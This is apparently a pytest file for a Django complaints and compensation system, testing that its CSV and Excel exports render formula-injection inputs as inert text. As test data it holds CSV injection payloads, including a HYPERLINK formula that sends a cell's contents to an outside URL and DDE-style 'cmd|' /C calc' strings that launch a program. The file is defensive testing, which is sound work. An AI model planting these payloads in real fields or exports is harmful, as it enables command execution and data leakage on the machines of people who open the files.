"""Formula injection in every CSV and Excel export (issue 19 §7), read back as a user would.

A unit named like a formula and claim reasons typed like formulas must come out of the
dashboard's, the regulator's and the claims' exports as inert text: in CSV every such cell
starts with `'`; in Excel no cell is a formula and such text is stored as a string.
"""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
import time_machine
from django.test import Client
from openpyxl import load_workbook

from compensation import services as claims
from compensation.amounts import ClaimFacts, Incident, Service
from compensation.models import Claim
from complaints import services
from dashboard.rollup import rollup_rebuild
from kernel.spreadsheets import FORMULA_STARTS, inert
from tests.complaints.helpers import bring_to
from tests.conftest import new_complaint

HYPERLINK = '=HYPERLINK("http://example.invalid/?x="&A1,"点我")'
PAYLOADS = (HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd", "\t=1+1")


def _csv_cells(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
    return [cell for row in rows for cell in row]


def _xlsx_cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value]


def assert_inert(content: bytes, kind: str, expected: tuple[str, ...]) -> None:
    """No cell runs; each payload in `expected` is there, as text with a leading quote."""
    if kind == "csv":
        texts = _csv_cells(content)
    else:
        cells = _xlsx_cells(content)
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
        texts = [c.value for c in cells if isinstance(c.value, str)]
    live = [t for t in texts if t.startswith(FORMULA_STARTS) and inert(t) != t]
    assert live == [], f"cells a spreadsheet would run: {live}"
    for payload in expected:
        assert any(t.startswith("'" + payload) or t == "'" + payload for t in texts), payload


@pytest.mark.parametrize(
    ("value", "written"),
    [
        pytest.param(HYPERLINK, "'" + HYPERLINK, id="equals"),
        pytest.param("+1", "+1", id="a-plain-signed-number-stays"),
        pytest.param("-5.0%", "-5.0%", id="a-negative-rate-stays"),
        pytest.param("-2+3", "'-2+3", id="minus-then-arithmetic"),
        pytest.param("@SUM(A1)", "'@SUM(A1)", id="at"),
        pytest.param("\t=1", "'\t=1", id="tab"),
        pytest.param("\r=1", "'\r=1", id="carriage-return"),
        pytest.param("网点甲", "网点甲", id="plain-text"),
        pytest.param(Decimal("-3.5"), Decimal("-3.5"), id="numbers-are-numbers"),
        pytest.param(None, None, id="empty"),
    ],
)
def test_it_makes_one_cell_inert(value, written):
    assert inert(value) == written


@pytest.fixture
def formula_unit(org, alice, bob, now):
    """Branch A and its region renamed like a formula, with a complaint answered at A."""
    for unit in (org["a"], org["region"]):  # the ranking lists the level below the selection
        unit.name = HYPERLINK
        unit.save()
    complaint, _ = services.complaint_create(
        data=new_complaint(category="loss", service="postal_registered", freight="20.00"),
        by=alice,
        now=now,
    )
    return bring_to("answered", complaint, agent=alice, branch_user=bob, unit=org["a"], now=now)


def _signed_in(user) -> Client:
    user.is_staff = True
    user.save()
    client = Client()
    client.force_login(user)
    return client


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_it_exports_the_dashboard_inert(kind, formula_unit, sam, now):
    with time_machine.travel(now + timedelta(days=1), tick=False):
        rollup_rebuild()
        day = now.date().isoformat()
        response = _signed_in(sam).get(
            f"/dashboard/export.{kind}", {"period": "custom", "start": day, "end": day}
        )
    assert response.status_code == 200
    assert_inert(response.content, kind, (HYPERLINK,))


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_it_exports_the_regulator_statistics_inert(kind, formula_unit, sam, now):
    response = _signed_in(sam).get("/regulators/statistics/", {"month": "2026-11", "format": kind})
    assert response.status_code == 200
    assert_inert(response.content, kind, (HYPERLINK,))


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_it_exports_the_claims_inert(kind, formula_unit, bob, sam, now):
    facts = ClaimFacts(
        service=Service.POSTAL_REGISTERED,
        incident=Incident.LOSS,
        insured=False,
        freight=Decimal("20.00"),
        actual_loss=Decimal("500.00"),
        limit_clause_shown=True,
    )
    made = []
    for payload in PAYLOADS:
        claim = claims.claim_propose(
            complaint=formula_unit,
            by=bob,
            facts=facts,
            override=claims.Override(amount=Decimal("50.00"), reason=payload),
            now=now,
        )
        made.append(claims.claim_reject(claim=claim, by=sam, reason=payload, now=now).pk)
    response = _signed_in(sam).post(
        "/admin/compensation/claim/",
        {"action": f"export_{kind}", "_selected_action": [str(pk) for pk in made]},
    )
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    stored = {c.override_reason for c in Claim.objects.all()}  # as the reasons were kept
    assert_inert(response.content, kind, tuple(stored))
    if kind == "csv":
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        assert rows[0][:3] == ["申请编号", "工单号", "状态"] and len(rows) == 1 + len(PAYLOADS)
        assert {row[9] for row in rows[1:]} == {"bob"}  # 提出人
